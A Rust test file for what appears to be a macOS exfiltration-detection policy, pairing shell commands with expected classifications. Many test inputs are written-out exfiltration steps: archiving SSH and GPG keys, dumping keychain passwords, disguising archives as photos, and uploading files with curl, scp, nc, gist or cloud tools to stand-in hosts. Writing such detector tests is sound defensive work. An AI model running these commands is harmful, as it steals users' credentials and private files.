use super::{command, run, shown};

/// Command line, and what it reads (`in`), writes (`out`), sends (`up`, `stdin`) and where to.
const CASES: &[(&str, &str)] = &[
    // zip
    ("zip o.zip a b", "archive in:/w/a in:/w/b out:/w/o.zip"),
    ("zip -r /tmp/x.zip .", "archive in:/w out:/tmp/x.zip"),
    ("zip -r backup docs", "archive in:/w/docs out:/w/backup.zip"),
    ("zip -qr9 -P secret out docs -x '*.git*' '*.tmp'", "archive in:/w/docs out:/w/out.zip"),
    ("zip -r o.zip docs -x a b @ c", "archive in:/w/docs in:/w/c out:/w/o.zip"),
    ("zip - a", "archive in:/w/a"),
    ("zip -s 10m -r o.zip d", "archive in:/w/d out:/w/o.zip"),
    ("zip in.zip -O out.zip", "archive in:/w/in.zip out:/w/out.zip"),
    ("zip --password p -r o.zip d", "archive in:/w/d out:/w/o.zip"),
    ("zip -T o.zip", "other"),
    ("unzip o.zip -d x", "other"),
    // ditto
    ("ditto -c -k --sequesterRsrc /tmp/9556/ /tmp/out.zip", "archive in:/tmp/9556 out:/tmp/out.zip"),
    ("ditto -ck --keepParent build/App.app App.zip", "archive in:/w/build/app.app out:/w/app.zip"),
    ("ditto -x -k in.zip out", "other"),
    ("ditto -xk in.zip out", "other"),
    ("ditto a b c", "copy in:/w/a in:/w/b out:/w/c"),
    ("ditto --arch arm64 a b", "copy in:/w/a out:/w/b"),
    ("ditto -c -z src -", "archive in:/w/src"),
    // tar
    ("tar czf /tmp/.a.tgz /Users/a/Documents/Board", "archive in:/users/a/documents/board out:/tmp/.a.tgz"),
    ("tar -c -z -f o.tgz a", "archive in:/w/a out:/w/o.tgz"),
    ("tar -czfo.tgz a", "archive in:/w/a out:/w/o.tgz"),
    ("tar --create --file=o.tar a b", "archive in:/w/a in:/w/b out:/w/o.tar"),
    ("tar --create --file o.tar a", "archive in:/w/a out:/w/o.tar"),
    ("tar cf o.tar -C /Users/a .ssh -C .gnupg x", "archive in:/users/a/.ssh in:/users/a/.gnupg/x out:/w/o.tar"),
    ("tar -C /Users/a -cf o.tar Finance", "archive in:/users/a/finance out:/w/o.tar"),
    ("tar -T /tmp/l -czf /tmp/l.tgz", "archive in:/tmp/l out:/tmp/l.tgz"),
    ("tar cfb o.tar 20 d", "archive in:/w/d out:/w/o.tar"),
    ("tar czpf - /Users/a", "archive in:/users/a"),
    ("tar cz a", "archive in:/w/a"),
    ("tar -cf o.tar @other.tar", "archive in:/w/other.tar out:/w/o.tar"),
    ("tar -cf o.tar --exclude x a", "archive in:/w/a out:/w/o.tar"),
    ("tar --format zip -cf o.zip a", "archive in:/w/a out:/w/o.zip"),
    ("tar rf o.tar more", "archive in:/w/more out:/w/o.tar"),
    ("tar xzf o.tgz", "other"),
    ("tar -tf o.tgz", "other"),
    ("tar --extract -f o.tgz -C /x", "other"),
    (
        "tar --posix -cf cache.tzst -P -C /w/_work --files-from manifest.txt --use-compress-program zstdmt",
        "archive in:/w/_work/manifest.txt out:/w/cache.tzst",
    ),
    ("tar -cf o.tar -- -x", "archive in:/w/-x out:/w/o.tar"),
    // one-file compressors
    ("gzip a b", "archive in:/w/a in:/w/b out:/w/a.gz out:/w/b.gz"),
    ("gzip -9c a", "archive in:/w/a"),
    ("gzip -S .x a", "archive in:/w/a out:/w/a.x"),
    ("gzip -d a.gz", "other"),
    ("gunzip a.gz", "other"),
    ("bzip2 -k a", "archive in:/w/a out:/w/a.bz2"),
    ("xz -k NoteStore.sqlite", "archive in:/w/notestore.sqlite out:/w/notestore.sqlite.xz"),
    ("xz -T0 -9 a", "archive in:/w/a out:/w/a.xz"),
    ("xz -dc a.xz", "other"),
    ("zstd /tmp/c", "archive in:/tmp/c out:/tmp/c.zst"),
    ("zstd -T0 -19 a -o b.zst", "archive in:/w/a out:/w/b.zst"),
    ("zstd -d a.zst", "other"),
    ("zstd", "archive"),
    ("lz4 a b.lz4", "archive in:/w/a out:/w/b.lz4"),
    ("lz4 a", "archive in:/w/a out:/w/a.lz4"),
    ("lz4 -m a b", "archive in:/w/a in:/w/b out:/w/a.lz4 out:/w/b.lz4"),
    ("brotli --output=b.br a", "archive in:/w/a out:/w/b.br"),
    ("compress a", "archive in:/w/a out:/w/a.z"),
    // 7z, rar, Apple Archive
    ("7zz a -v10m -pX -mhe=on /tmp/q.7z /Users/a/Clients", "archive in:/users/a/clients out:/tmp/q.7z"),
    ("7z a out docs", "archive in:/w/docs out:/w/out.7z"),
    ("7z a -tzip out docs", "archive in:/w/docs out:/w/out.zip"),
    ("7z a o.7z @list.txt", "archive in:/w/list.txt out:/w/o.7z"),
    ("7z x o.7z -oout", "other"),
    ("7z l o.7z", "other"),
    ("rar a -hpX -v50m out docs", "archive in:/w/docs out:/w/out.rar"),
    ("rar x a.rar", "other"),
    ("aa archive -d /Users/a/Finance -o /Users/a/Library/.f.aar", "archive in:/users/a/finance out:/users/a/library/.f.aar"),
    ("aa extract -d x -i a.aar", "other"),
    ("aea encrypt -i a -o b.aea -key k", "archive in:/w/a out:/w/b.aea"),
    ("aea decrypt -i a.aea -o b", "other"),
    // disk images, packages
    ("hdiutil create -srcfolder /Users/a/Documents -encryption -stdinpass /tmp/x.dmg", "archive in:/users/a/documents out:/tmp/x.dmg"),
    ("hdiutil create -encryption AES-256 -srcfolder d /tmp/x", "archive in:/w/d out:/tmp/x.dmg"),
    ("hdiutil create -type SPARSE -size 1g -fs APFS x", "archive out:/w/x.sparseimage"),
    ("hdiutil create -size 1g -type SPARSEBUNDLE -volname V x", "archive out:/w/x.sparsebundle"),
    ("hdiutil convert in.dmg -format UDZO -o out", "archive in:/w/in.dmg out:/w/out.dmg"),
    ("hdiutil makehybrid -iso -o out.iso src", "archive in:/w/src out:/w/out.iso"),
    ("hdiutil attach x.dmg", "other"),
    ("pax -wzf /tmp/p /Users/a/Notes", "archive in:/users/a/notes out:/tmp/p"),
    ("pax -w a", "archive in:/w/a"),
    ("pax -rzf p", "other"),
    ("pax -rw a b /x", "copy in:/w/a in:/w/b out:/x"),
    ("cpio -o -O x.cpio", "archive out:/w/x.cpio"),
    ("cpio -oF x.cpio", "archive out:/w/x.cpio"),
    ("cpio -id", "other"),
    ("cpio -pd /x", "copy out:/x"),
    ("xar -cf x.xar d", "archive in:/w/d out:/w/x.xar"),
    ("xar -xf x.xar", "other"),
    ("pkgbuild --root /Users/a/Finance --identifier a /tmp/f.pkg", "archive in:/users/a/finance out:/tmp/f.pkg"),
    ("productbuild --component A.app /Applications o.pkg", "archive in:/w/a.app out:/w/o.pkg"),
    ("compression_tool -encode -a lzfse -i in -o out", "archive in:/w/in out:/w/out"),
    ("compression_tool -decode -i in -o out", "other"),
    ("streamzip -zipfile o.zip", "archive out:/w/o.zip"),
    // encryption, encoding
    ("openssl enc -aes-256-cbc -salt -pass pass:x -in a -out b", "archive in:/w/a out:/w/b"),
    ("openssl des3 -salt -pass pass:x", "archive"),
    ("openssl enc -d -aes-256-cbc -in a -out b", "other"),
    ("openssl x509 -in cert.pem -noout", "other"),
    ("gpg -c --batch --passphrase x o.tar", "archive in:/w/o.tar out:/w/o.tar.gpg"),
    ("gpg -o out.bin -e -r me a", "archive in:/w/a out:/w/out.bin"),
    ("gpg -a --export-secret-keys", "archive"),
    ("gpg -ac a", "archive in:/w/a out:/w/a.asc"),
    ("gpg -d a.gpg", "other"),
    ("age -r age1x -o b.age a", "archive in:/w/a out:/w/b.age"),
    ("age -d -i key b.age", "other"),
    ("base64 -i a -o b", "copy in:/w/a out:/w/b"),
    ("base64 a", "copy in:/w/a"),
    ("base64 -D -i a", "other"),
    // copying
    ("cp a b /x", "copy in:/w/a in:/w/b out:/x"),
    ("cp -c secret.key /tmp/k", "copy in:/w/secret.key out:/tmp/k"),
    ("cp -R -t /x a", "copy in:/w/a out:/x"),
    ("mv /tmp/.a.tgz /Users/a/Pictures/IMG_2034.HEIC", "copy in:/tmp/.a.tgz out:/users/a/pictures/img_2034.heic"),
    ("ln /Users/a/.ssh/id_rsa /tmp/k2", "copy in:/users/a/.ssh/id_rsa out:/tmp/k2"),
    ("install -m 600 a /x/b", "copy in:/w/a out:/x/b"),
    ("install -d /x/y", "other"),
    ("split -b 5000000 data.tgz seg.", "copy in:/w/data.tgz out:/w"),
    ("split -b 1m /tmp/a /tmp/parts/p", "copy in:/tmp/a out:/tmp/parts"),
    ("split -b 1m", "copy out:/w"),
    ("dd if=/tmp/a of=/tmp/b bs=1m", "copy in:/tmp/a out:/tmp/b"),
    ("dd if=/tmp/a bs=5m skip=3 count=1", "copy in:/tmp/a"),
    ("sqlite3 /tmp/chat.db '.backup /tmp/c'", "copy in:/tmp/chat.db out:/tmp/c"),
    ("sqlite3 'file:/tmp/a b.db?immutable=1' 'select 1'", "copy in:/tmp/a_b.db"),
    ("sqlite3 x.db \"VACUUM INTO '/tmp/v.db'\"", "copy in:/w/x.db out:/tmp/v.db"),
    ("sqlite3 -cmd '.output /tmp/o' x.db .dump", "copy in:/w/x.db out:/tmp/o"),
    ("python3 -m zipfile -c o.zip a b", "archive in:/w/a in:/w/b out:/w/o.zip"),
    ("python3.12 -m tarfile --create o.tar d", "archive in:/w/d out:/w/o.tar"),
    ("python3 -m zipfile -e o.zip x", "other"),
    ("python3 -m http.server", "other"),
    ("python3 a.py -m zipfile -c o.zip a", "other"),
    // secrets
    ("security find-generic-password -w -a Chrome", "secret:keychain:90"),
    ("security find-generic-password -wa 'Chrome'", "secret:keychain:90"),
    ("security find-generic-password -ga Chrome", "secret:keychain:90"),
    ("security find-internet-password -s x -g", "secret:keychain:90"),
    ("security find-generic-password -s 'Chrome Safe Storage'", "other"),
    ("security dump-keychain -d login.keychain", "secret:keychain:90"),
    ("security export -k login.keychain -t all -o out", "secret:keychain:90"),
    ("security find-identity -v -p codesigning", "other"),
    ("security add-trusted-cert -d -k System.keychain a.pem", "other"),
    ("security import a.p12 -k x", "other"),
    // curl
    (
        "curl -X POST -H 'user: x' -H 'BuildID: y' -F file=@/tmp/out.zip https://sivvino.example/contact",
        "upload up:/tmp/out.zip to:sivvino.example:443",
    ),
    ("curl -X POST --data-binary @/tmp/out.zip https://203.0.113.62/log -H 'buildid: x'", "upload up:/tmp/out.zip to:203.0.113.62:443"),
    ("curl -X POST --data-binary @/tmp/out.zip http://203.0.113.62/log", "upload up:/tmp/out.zip plain:203.0.113.62:80"),
    (
        "curl -k -s -X PUT --data-binary @- -H 'api-key:x' --max-time 180 'https://h.example/gate?upload_id=1&chunk_index=2'",
        "upload stdin to:h.example:443",
    ),
    ("curl -F \"file=@/tmp/osalogging.110\" https://h.example/gate", "upload up:/tmp/osalogging.110 to:h.example:443"),
    ("curl -X POST -H 'Content-Type: application/json' -d @/tmp/b https://192.0.2.9/send/", "upload up:/tmp/b to:192.0.2.9:443"),
    ("curl -T /Users/Shared/IMG_2034.HEIC https://203.0.113.5/", "upload up:/users/shared/img_2034.heic to:203.0.113.5:443"),
    ("curl -T /tmp/x.dmg https://transfer.sh/", "upload up:/tmp/x.dmg to:transfer.sh:443"),
    ("curl -T - https://h.example/x", "upload stdin to:h.example:443"),
    ("curl -sSLT/tmp/a https://h.example:8444/x", "upload up:/tmp/a to:h.example:8444"),
    ("curl --upload-file=/tmp/a https://h.example", "upload up:/tmp/a to:h.example:443"),
    ("curl -T '{a,b}' https://h.example/", "upload up:/w/a up:/w/b to:h.example:443"),
    ("curl --json @x.json h.example/api", "upload up:/w/x.json plain:h.example:80"),
    ("curl -d a=b https://h.example", "upload to:h.example:443"),
    ("curl --data=@/tmp/a --url https://h.example", "upload up:/tmp/a to:h.example:443"),
    ("curl --data-urlencode name@/tmp/a https://h.example", "upload up:/tmp/a to:h.example:443"),
    ("curl --data-urlencode user=x@y https://h.example", "upload to:h.example:443"),
    ("curl --data-raw @literal https://h.example", "upload to:h.example:443"),
    (
        "curl -F 'a=<text' -F 'f=@b;type=text/plain' -F 'g=@\"c,d\"' https://h.example",
        "upload up:/w/text up:/w/b up:/w/c,d to:h.example:443",
    ),
    ("curl -F 'f=@a,b' https://h.example", "upload up:/w/a up:/w/b to:h.example:443"),
    ("curl -F 'document=@-' https://api.telegram.org/bot1/sendDocument", "upload stdin to:api.telegram.org:443"),
    ("curl -x socks5://127.0.0.1:9050 -T a https://h.example", "upload up:/w/a to:h.example:443"),
    ("curl -T o.zip http://127.0.0.1:8787/", "upload up:/w/o.zip plain:127.0.0.1:8787"),
    ("curl --http3-only -T /tmp/o.zip https://[2001:db8::1]:444/", "upload up:/tmp/o.zip to:2001:db8::1:444"),
    ("curl -T a ftp://u:p@ftp.example/d/", "upload up:/w/a plain:ftp.example:21"),
    ("curl -fsSL https://h.example/x.sh", "other"),
    ("curl -sSLo /tmp/f https://h.example/x", "other out:/tmp/f"),
    ("curl -L https://ghcr.io/v2/homebrew/core/blobs/sha256:1 -o b.tar.gz", "other out:/w/b.tar.gz"),
    ("curl -K /Users/a/.cache/c", "other"),
    // other senders
    ("wget --post-file=/tmp/a https://h.example/x", "upload up:/tmp/a to:h.example:443"),
    ("wget --post-data a=b http://h.example", "upload plain:h.example:80"),
    ("wget -O o https://h.example/x", "other out:/w/o"),
    ("nscurl --upload /tmp/a https://h.example", "upload up:/tmp/a to:h.example:443"),
    ("https POST h.example/up f@/tmp/a", "upload up:/tmp/a to:h.example:443"),
    ("http h.example data:=@/tmp/a.json", "upload up:/tmp/a.json plain:h.example:80"),
    ("scp /tmp/a u@h.example:/x", "upload up:/tmp/a to:h.example:22"),
    ("scp -P 2222 -r d h.example:", "upload up:/w/d to:h.example:2222"),
    ("scp a u@[2001:db8::1]:/x", "upload up:/w/a to:2001:db8::1:22"),
    ("scp u@h.example:/x .", "other out:/w"),
    ("scp a scp://u@h.example:2200/x", "upload up:/w/a to:h.example:2200"),
    ("scp ./a:b /tmp", "copy in:/w/a:b out:/tmp"),
    ("sftp -b cmds u@h.example", "upload in:/w/cmds stdin to:h.example:22"),
    ("rsync -e ssh -az d/ u@h.example:/x", "upload up:/w/d to:h.example:22"),
    ("rsync -a d h.example::mod/x", "upload up:/w/d plain:h.example:873"),
    ("rsync -a d rsync://h.example/mod", "upload up:/w/d plain:h.example:873"),
    ("rsync -a a b", "copy in:/w/a out:/w/b"),
    ("rsync -a h.example:/x .", "other out:/w"),
    ("ssh u@h.example 'cat > x'", "upload stdin to:h.example:22"),
    ("ssh -p 2200 -i key h.example", "upload stdin to:h.example:2200"),
    ("ssh -N -L 1:a:2 h.example", "other"),
    ("nc h.example 4444", "upload stdin plain:h.example:4444"),
    ("openssl s_client -quiet -connect 203.0.113.7:8443", "upload stdin to:203.0.113.7:8443"),
    ("rclone copy /Users/a/Documents/Clients r:bk --transfers 16", "upload up:/users/a/documents/clients to:r.rclone.invalid"),
    ("rclone rcat r:bk/x", "upload stdin to:r.rclone.invalid"),
    ("rclone copy r:bk /x", "other out:/x"),
    ("rclone ls r:", "other"),
    ("aws s3 cp a s3://pers-bkt/x", "upload up:/w/a to:pers-bkt.s3.amazonaws.com:443"),
    ("aws --profile personal s3 sync /Users/a/Projects s3://pers-bkt", "upload up:/users/a/projects to:pers-bkt.s3.amazonaws.com:443"),
    ("aws s3 cp - s3://b/x", "upload stdin to:b.s3.amazonaws.com:443"),
    ("aws s3 cp s3://b/x .", "other out:/w"),
    ("aws s3 cp s3://b/x s3://c/x", "other"),
    ("aws s3 cp a s3://b/x --endpoint-url https://s3.example:9000", "upload up:/w/a to:s3.example:9000"),
    ("aws s3api put-object --bucket b --key k --body /tmp/a", "upload up:/tmp/a to:b.s3.amazonaws.com:443"),
    ("aws s3 ls", "other"),
    ("gsutil -m cp -r /Users/a/Legal gs://bkt", "upload up:/users/a/legal to:storage.googleapis.com:443"),
    ("gcloud storage cp -r Legal gs://bkt", "upload up:/w/legal to:storage.googleapis.com:443"),
    ("gcloud --project p storage cp a gs://b", "upload up:/w/a to:storage.googleapis.com:443"),
    ("az storage blob upload -f a -c box --account-name acct -n n", "upload up:/w/a to:acct.blob.core.windows.net:443"),
    ("azcopy copy /w/d 'https://acct.blob.core.windows.net/c?sig=x'", "upload up:/w/d to:acct.blob.core.windows.net:443"),
    ("gh gist create /Users/a/.ssh/id_ed25519", "upload up:/users/a/.ssh/id_ed25519 to:api.github.com:443"),
    ("gh release upload v0 /tmp/o.zip -R me/x", "upload up:/tmp/o.zip to:uploads.github.com:443"),
    ("gh pr list", "other"),
    ("mail -s hi -A /tmp/a x@h.example", "upload up:/tmp/a stdin"),
    // wrappers and look-alikes
    ("env FOO=1 BAR=2 curl -T a https://h.example", "upload up:/w/a to:h.example:443"),
    ("nohup caffeinate -i -t 60 tar cf o.tar d", "archive in:/w/d out:/w/o.tar"),
    ("caffeinate -t 60 zip -r o d", "archive in:/w/d out:/w/o.zip"),
    ("env", "other"),
    ("sudo curl -T a https://h.example", "other"),
    ("bash -c 'tar czf - ~/.ssh > /tmp/k; exec curl -T /tmp/k https://h.example'", "other"),
    ("sh -c \"cat '/a' > /tmp/9556/keychain\"", "other"),
    ("echo 'aws s3 cp a s3://b'", "other"),
    ("npm pack", "other"),
    ("cat /Users/a/.ssh/id_rsa", "other"),
    ("curl", "other"),
    ("tar", "other"),
    ("zip", "archive"),
];

#[test]
fn every_command_line_is_read_as_its_manual_says() {
    let wrong: Vec<String> = CASES
        .iter()
        .map(|(line, expected)| (line, shown(&command(line)), expected))
        .filter(|(_, found, expected)| found != *expected)
        .map(|(line, found, expected)| format!("{line}\n    found    {found}\n    expected {expected}"))
        .collect();
    assert!(wrong.is_empty(), "{} of {}\n{}", wrong.len(), CASES.len(), wrong.join("\n"));
}

#[test]
fn a_tool_is_known_by_path_argument_or_signing_id() {
    let argv = |words: &[&str]| words.iter().map(|word| (*word).into()).collect::<Vec<_>>();
    let upload = "upload up:/w/a to:h.example:443";
    assert_eq!(shown(&run("/opt/homebrew/opt/curl/bin/curl", &argv(&["x", "-T", "a", "https://h.example"]))), upload);
    assert_eq!(shown(&run("/tmp/x", &argv(&["curl", "-T", "a", "https://h.example"]))), upload);
    assert_eq!(shown(&run("/tmp/x", &argv(&["x", "-T", "a", "https://h.example"]))), "other");
    let image = tollgate_model::Image {
        path: tollgate_model::FilePath::new("/tmp/x"),
        identity: tollgate_model::Identity { signing_id: Some("com.apple.curl".into()), ..Default::default() },
    };
    let cwd = tollgate_model::FilePath::new("/w");
    let found = crate::Policy::builtin().command(&image, &argv(&["x", "-T", "a", "https://h.example"]), Some(&cwd));
    assert_eq!(shown(&found), upload);
}

#[test]
fn words_are_possible_paths() {
    let words = |line: &str| command(line).words.iter().map(|path| path.key().to_owned()).collect::<Vec<_>>().join(" ");
    assert_eq!(words("x --out=/tmp/o a -v"), "/tmp/o /w/a");
    assert_eq!(words("dd if=/a"), "/a /w/if=/a");
    assert_eq!(words("curl -d @/tmp/b"), "/w/@/tmp/b /tmp/b");
    assert!(words("sh -c 'cat \"/a b\" > /tmp/k'").contains("/tmp/k"));
    assert!(words("sh -c 'cat \"/a b\" > /tmp/k'").contains("/a b"));
    assert_eq!(words("x 'cat > /tmp/k'"), "/w/cat > /tmp/k");
}
